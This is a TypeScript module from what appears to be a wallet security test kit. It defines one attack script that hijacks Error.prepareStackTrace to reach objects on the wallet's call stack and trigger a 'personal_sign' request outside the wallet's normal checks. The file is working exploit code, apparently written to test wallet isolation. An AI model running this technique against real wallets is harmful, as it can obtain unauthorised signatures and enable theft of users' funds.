import type { Attack } from './kit/attack.ts'

export default {
  family: 'global',
  how: "Reads the objects on the stack while the wallet's code runs, by Error.prepareStackTrace.",
  script: `
    Error.prepareStackTrace = (error, sites) => {
      for (const site of sites) {
        for (const each of [site.getThis(), site.getFunction()]) {
          try { if (typeof each?.request === 'function') each.request(attack.sign) } catch {}
        }
      }
      return ''
    }
    Error.stackTraceLimit = 100
    const look = () => new Error().stack
    ethereum.on('message', look)
    for (const args of [undefined, {}, { method: 1 }, { method: 'eth_chainId', params: 7 }]) ethereum.request(args).catch((error) => error.stack)
    ethereum.request({ get method() { look(); return 'personal_sign' }, params: attack.sign.params }).catch((error) => error.stack)
    ethereum.sendAsync({ id: 1, jsonrpc: '2.0', method: 'eth_chainId', params: [] }, look)
    await attack.sleep(300)
  `,
} satisfies Attack
